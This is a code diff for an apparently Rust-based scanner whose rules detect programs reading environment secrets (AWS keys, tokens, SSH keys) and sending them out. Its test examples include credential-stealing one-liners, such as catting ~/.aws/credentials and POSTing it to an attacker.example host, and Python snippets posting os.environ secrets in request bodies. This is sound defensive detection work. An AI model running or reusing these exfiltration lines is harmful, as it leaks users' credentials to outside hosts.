@@ -17,12 +17,16 @@ pub(super) struct Signal {
 
 /// Secrets are read that programs usually read for themselves.
 pub(super) const READS: Signal = Signal {
-    keywords: &[".env", "environ", "process.env"],
+    keywords: &[".env", "environ", "process.env", "getenv"],
     pattern: concat!(
         r"(?:\b(?:cat|base64|tar|zip|xxd)\s[^\n|;&]*",
         r"|\b(?:open|readfilesync|readfile|read_text|path)\s*\([^\n)]*)",
         r"(?:/|~|\s|['\x22])\.env\b|\bjson\.dumps\(\s*dict\(\s*os\.environ",
         r"|\bdict\(\s*os\.environ\s*\)|json\.stringify\(\s*process\.env\s*[,)]",
+        // Secrets that a program hands to a library and never to a web service itself.
+        r"|\b(?:os\.environ(?:\.get\s*\(|\[)|os\.getenv\s*\(|process\.env[.\[])\s*['\x22]?",
+        r"(?:aws_secret_access_key|aws_session_token|npm_token|pypi_token",
+        r"|ssh_private_key|pgpassword)\b",
     ),
 };
 
@@ -87,6 +91,7 @@ pub(super) const NEARBY: Rule = Rule {
          data=data)\n",
         "payload=$(cat ~/.aws/credentials)\n\ncurl -X POST -d \"$payload\" \
          https://c.attacker.example/",
+        "key = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post(URL, json={'k': key})",
         "const all = JSON.stringify(process.env);\nawait fetch(url, { method: 'POST', \
          body: all });",
     ],
@@ -94,6 +99,7 @@ pub(super) const NEARBY: Rule = Rule {
         "cp .env.example .env\ncurl -X POST -d '{}' https://api.attacker.example/",
         "requests.post(URL, json={'a': 1}, headers={'Authorization': os.environ['TOKEN']})",
         "api_key = os.environ.get('KEY')\nrequests.post(url)",
+        "token = os.environ['GITHUB_TOKEN']\nrequests.post(url, json=issue, headers=auth(token))",
     ],
     look: Look::Code,
 };
@@ -170,6 +176,31 @@ pub(super) const RULES: &[Rule] = &[
                 r"(?:\||\))[^\n]*|\b(?:requests|httpx)\.",
                 r"(?:post|put|get)\s*\([^\n]*\bos\.environ\s*(?:\)|,|\}|\.copy|\.items)",
                 r"|\b(?:fetch|axios[.\w]*)\s*\([^\n]*json\.stringify\(\s*process\.env\s*[,)]",
+            ),
+            judge: Judge::AsItIs,
+        },
+    },
+    Rule {
+        id: "environment-secret-in-body",
+        family: Exfiltration,
+        severity: Medium,
+        reason: "a secret of the environment is sent as data, where services want it in a header",
+        hits: &[
+            "requests.post(URL, json={'k': os.environ['OPENAI_API_KEY']})",
+            "httpx.post(URL, data={\n  'token': os.getenv('GITHUB_TOKEN'),\n})",
+        ],
+        misses: &[
+            "requests.post(URL, headers={'X': os.environ['API_KEY']}, json=body)",
+            "requests.post(URL, json={'model': os.environ['MODEL']})",
+            "requests.post(URL, data={'client_secret': os.environ['CLIENT_SECRET']})",
+        ],
+        look: Look::Pattern {
+            keywords: &["os.environ", "os.getenv"],
+            pattern: concat!(
+                r"\b(?:requests|httpx)\.(?:post|put)\s*\([^;)]{0,300}?\b(?:json|data)\s*=",
+                r"\s*[{\[][^;})]{0,300}?\bos\.(?:environ(?:\.get\s*\(|\[)|getenv\s*\()\s*['\x22]",
+                // A client's own secret does belong into the body of a request for a token.
+                r"[a-z0-9_]*(?:api_key|token|access_key|password)\b",
             ),
             judge: Judge::AsItIs,
         },
